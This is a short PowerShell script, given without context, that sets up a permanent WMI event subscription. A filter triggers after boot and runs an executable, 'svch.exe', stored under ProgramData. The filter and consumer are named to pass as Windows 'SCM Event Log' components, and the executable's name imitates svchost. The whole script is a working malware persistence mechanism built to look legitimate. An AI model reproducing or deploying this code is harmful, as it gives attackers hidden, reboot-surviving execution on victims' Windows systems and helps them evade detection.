$ns = 'root/subscription'
$query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240"

$filter = New-CimInstance -Namespace $ns -ClassName __EventFilter -Property @{
    Name           = 'SCM Event Log Filter'
    EventNamespace = 'root/cimv2'
    QueryLanguage  = 'WQL'
    Query          = $query
}
$consumer = New-CimInstance -Namespace $ns -ClassName CommandLineEventConsumer -Property @{
    Name                = 'SCM Event Log Consumer'
    CommandLineTemplate = 'C:\ProgramData\Microsoft\Network\svch.exe'
}
New-CimInstance -Namespace $ns -ClassName __FilterToConsumerBinding -Property @{
    Filter   = [ref]$filter
    Consumer = [ref]$consumer
} | Out-Null
